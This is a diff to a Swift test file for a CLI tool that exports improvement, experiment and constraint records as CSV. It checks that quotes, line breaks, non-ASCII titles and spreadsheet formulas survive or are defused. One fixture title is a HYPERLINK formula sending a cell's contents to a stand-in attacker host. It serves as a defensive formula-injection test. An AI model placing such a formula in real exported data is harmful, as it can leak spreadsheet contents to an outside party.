@@ -21,6 +21,62 @@ import Testing
         return rows
     }
 
+    static let formulaTitle = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"
+
+    /// An improvement proposed on 2026-03-01 and trialled from 2026-03-10, when
+    /// an experiment of teams a and b started too; a constraint not committed
+    /// yet. The titles hold a formula, a quote, a comma, a line break and
+    /// letters beyond ASCII.
+    static func hostileRepository() throws -> GitFixture {
+        let git = try GitFixture()
+        try git.write("kaizen.yml", "version: 1\nteams: [a, b]\n")
+        func improvement(_ status: String) -> String {
+            "---\nkind: improvement\ntitle: '\(formulaTitle)'\nstatus: \(status)\norigin: a\nlevel: team\narea: flow\n---\n"
+        }
+        try git.write("improvements/formula.md", improvement("proposed"))
+        try git.commit("Propose", at: GitDate(2026, 3, 1, 12, offsetMinutes: 0))
+        try git.write("improvements/formula.md", improvement("trialling"))
+        try git.write("experiments/quoted.md", """
+            ---
+            kind: experiment
+            title: "Say \\"hi\\", then\\nwave"
+            teams: [a, b]
+            status: running
+            ---
+            """)
+        try git.commit("Trial", at: GitDate(2026, 3, 10, 12, offsetMinutes: 0))
+        try git.write("constraints/zoe.md", """
+            ---
+            kind: constraint
+            title: Zoë's café queue
+            status: open
+            level: team
+            observed:
+              - {date: 2026-03-12, team: b, note: seen}
+            ---
+            """)
+        return git
+    }
+
+    @Test func listIsOneRowPerRecordWithHowLongItHasHadItsStatus() throws {
+        let git = try Self.hostileRepository()
+        let result = try KaizenProcess.run(["list", "--format", "csv", "--today", "2026-03-20"], in: git.workTree)
+        #expect(result.status == 0, "\(result.stderr)")
+        let rows = try Self.parse(result.stdout)
+        #expect(rows == [
+            ["id", "kind", "status", "status_since", "days_in_status", "teams", "title", "path"],
+            ["formula", "improvement", "trialling", "2026-03-10", "10", "a", "'" + Self.formulaTitle, "improvements/formula.md"],
+            ["quoted", "experiment", "running", "2026-03-10", "10", "a b", "Say \"hi\", then\nwave", "experiments/quoted.md"],
+            // Not committed: no day it got its status.
+            ["zoe", "constraint", "open", "", "", "b", "Zoë's café queue", "constraints/zoe.md"],
+        ])
+        let plain = try KaizenProcess.run(["list", "--format", "csv", "--no-history", "--kind", "improvement"], in: git.workTree)
+        #expect(try Self.parse(plain.stdout) == [
+            ["id", "kind", "status", "status_since", "days_in_status", "teams", "title", "path"],
+            ["formula", "improvement", "trialling", "", "", "a", "'" + Self.formulaTitle, "improvements/formula.md"],
+        ])
+    }
+
     /// A title in history and an author that a spreadsheet would take for
     /// formulas get an apostrophe; a comma, a quote and a line break survive.
     @Test func timelineDefusesFormulasAndQuotes() throws {
